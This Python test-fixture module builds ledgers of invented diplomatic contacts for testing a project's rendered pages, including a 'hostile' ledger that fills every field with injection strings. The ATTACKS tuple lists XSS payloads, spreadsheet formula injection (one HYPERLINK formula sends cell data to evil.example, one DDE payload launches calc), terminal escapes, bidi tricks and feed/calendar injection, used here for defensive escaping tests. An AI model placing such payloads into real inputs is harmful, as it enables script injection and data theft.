"""Ledgers for the tests of the pages: the bundled samples, one full of hostile words, and one of many invented contacts."""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path

from diplog.dates import DateSpan
from diplog.ledger import Entry, Ledger
from diplog.model import Claim, Document, Participant, Quote, Statement, Text, Topic, stable_id
from diplog.pipeline import demo_ledger

CLOCK = "2025-03-01T00:00:00Z"
BIDI = "\u202e\u2066\u200f"
ATTACKS = (
    "<script>window.owned=1</script>",
    '"><img src=x onerror="window.owned=1">',
    "'-window.owned=1-'",
    "</textarea></title></svg><svg onload=window.owned=1>",
    "javascript:window.owned=1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;owned\x07\x1b[31mred",
    f"{BIDI}detrever",
    "{{ 7*7 }}{% raw %}${7*7}",
    "line\r\nBEGIN:VEVENT\r\nSUMMARY:owned\r\nEND:VEVENT",
    "]]></summary><entry><id>owned</id></entry>",
    "a/b?c=d#e&amp;<b>",
    "..",
    "\ud800 lone \ufffe\uffff",
    "&#60;script&#62;",
)  # fmt: skip


def sample(path: Path) -> Path:
    """The bundled samples, read."""
    with demo_ledger(str(path)):
        pass
    return path


def _put(ledger: Ledger, entries: list[Entry]) -> None:
    for _ in ledger.append_all(entries):
        pass


def hostile(path: Path) -> Path:
    """Every field that words of others reach holds every attack: names, roles, places, topics, codes, titles, publishers,
    addresses, languages, quotes, hedges, scopes; two sides and a third party speak of each contact, and documents have
    two versions."""
    entries = []
    for n, attack in enumerate(ATTACKS):
        clean = attack.replace("\ud800", "")
        people = (
            Participant(f"A {clean}", f"minister {clean}", "MEX", f"minister{clean}", mention=clean, quoted=clean),
            Participant(clean, "secretary of state", "USA", "foreign_minister", mention=clean),
            Participant(None, None, f"X{clean}", None, group=n % 2 == 0, mention=f"group {clean}"),
        )
        for who, country, stance in (
            ("official", "MEX", "occurred"),
            ("official", "USA", "denied"),
            ("media", None, "doubted"),
        ):
            for version in (1, 2):
                words = f"They spoke {clean} about {clean} {who} {country}"
                body = f"{clean}\n{words} and more.\n{clean} Version {version}."
                start = body.index(words)
                url = attack if n % 3 == 0 else f"https://example.org/{n}/{country}?{clean.replace(chr(0), '')}"
                key = f"{country}-{n}-{clean}"
                document = stable_id("doc", key, body)
                quote = Quote("text", start, start + len(words), words)
                text = Text(
                    document, key, f"Title {clean}", body, url=url, publisher=f"Paper {clean}", source_type=who,  # type: ignore[arg-type]
                    source_country=country, published="2025-01-22", published_how="given", lang=clean[:8] if n % 2 else "ar",
                )  # fmt: skip
                statement = Statement(
                    id=stable_id("st", key, words),
                    document=document,
                    key=key,
                    kind="meeting" if n % 2 else "call",
                    stance=stance,  # type: ignore[arg-type]
                    participants=people,
                    quote=quote,
                    said_by=people[0] if n % 2 else None,
                    speaks_for=country,
                    standing="document",
                    date=DateSpan.day(dt.date(2025, 1, 1 + n)),
                    date_text=clean,
                    place=clean,
                    initiated_by=f"I{clean}",
                    topics=(Topic(f"topic {clean}", clean), Topic("trade", clean)),
                    hedge=clean,
                    scope=clean,
                    claims=(Claim("USA" if country == "MEX" else "MEX", clean, quote, ("trade",)),),
                    url=url,
                    publisher=f"Paper {clean}",
                    source_type=who,  # type: ignore[arg-type]
                    source_country=country,
                    published="2025-01-22",
                    lang=clean[:8] if n % 2 else "ar",
                )
                raw = Document(
                    document, key, key, "text/plain", stable_id("sha", body), b"", f"2025-01-2{3 + version}T00:00:00Z"
                )
                entries.append(Entry(raw, text, (statement,)))
    with Ledger.open(str(path), reader="test", clock=lambda: CLOCK) as ledger:
        _put(ledger, entries)
    return path


NAMES = (
    "Ana Ferro",
    "Bo Lind",
    "Carla Nunes",
    "Dan Weiss",
    "Eva Holm",
    "Farid Aziz",
    "Gao Ming",
    "Hana Sato",
    "Ivo Kral",
    "Jo March",
)
SIDES = ("MEX", "USA", "TUR", "CRI", "DEU", "FRA", "CHN", "RUS", "EGY", "BRA")
PLACES = (
    "Washington",
    "Ankara",
    "Berlin",
    "Paris",
    "Beijing",
    "Geneva",
    "Cairo",
    "Brasília",
    "Moscow",
    "Ciudad de México",
)


def many(path: Path, contacts: int = 400, seed: int = 5) -> Path:
    """Invented contacts of invented people over three years, so that every picture has something to show. Each text says
    as much as two sides and a paper would: some tell it alone, some days later, some announce and some deny."""
    dice = random.Random(seed)
    topics = ("trade", "migration", "war_and_peace", "energy", "sanctions", "health", "bilateral_relations")
    entries = []
    for n in range(contacts):
        a, b = sorted(dice.choices(range(10), weights=(9, 8, 6, 4, 4, 3, 3, 3, 2, 2), k=2))
        if a == b:
            b = (a + 1) % 10
        day = dt.date(2022, 3, 1) + dt.timedelta(days=int(dice.betavariate(1.6, 1) * 1000))
        people = tuple(
            Participant(NAMES[i], "foreign minister", SIDES[i], "foreign_minister", mention=NAMES[i]) for i in (a, b)
        )
        kind = dice.choice(("call", "meeting", "visit", "meeting"))
        place = PLACES[dice.choice((a, b))] if kind != "call" else None
        told = dice.choice(("both", "both", "first", "second", "media", "denied", "planned"))
        named = tuple(Topic(t) for t in dice.sample(topics, 2))
        voices = {
            "both": ((a, "occurred", 0), (b, "occurred", dice.choice((0, 0, 1, 1, 2, 3, 6)))),
            "first": ((a, "occurred", 1),),
            "second": ((b, "occurred", 0),),
            "media": ((None, "occurred", 1),),
            "denied": ((a, "occurred", 0), (b, "denied", 1)),
            "planned": ((a, "planned", -4),),
        }[told]
        for voice, stance, later in voices:
            speaker = SIDES[voice] if voice is not None else None
            words = f"{NAMES[a]} and {NAMES[b]} {stance} {kind} {n} {speaker or 'paper'}"
            key = f"https://example.org/{n}/{speaker or 'paper'}"
            document = stable_id("doc", key, words)
            published = (day + dt.timedelta(days=later)).isoformat()
            who = "official" if speaker else "media"
            publisher = f"Ministry of {speaker}" if speaker else f"Paper {n % 7}"
            text = Text(
                document, key, f"Note {n}", words, url=key, publisher=publisher, source_type=who,  # type: ignore[arg-type]
                source_country=speaker, published=published, published_how="given", lang="en",
            )  # fmt: skip
            statement = Statement(
                id=stable_id("st", key, words), document=document, key=key, kind=kind, stance=stance, participants=people,  # type: ignore[arg-type]
                quote=Quote("text", 0, len(words), words), speaks_for=speaker, standing="document" if speaker else "media",
                date=DateSpan.day(day), place=place, topics=named if voice == a else named[:1], url=key, publisher=publisher,
                source_type=who, source_country=speaker, published=published, lang="en",  # type: ignore[arg-type]
            )  # fmt: skip
            entries.append(
                Entry(
                    Document(document, key, key, "text/plain", stable_id("sha", words), b"", f"{published}T12:00:00Z"),
                    text,
                    (statement,),
                )
            )
    with Ledger.open(str(path), reader="test", clock=lambda: CLOCK) as ledger:
        _put(ledger, entries)
    return path
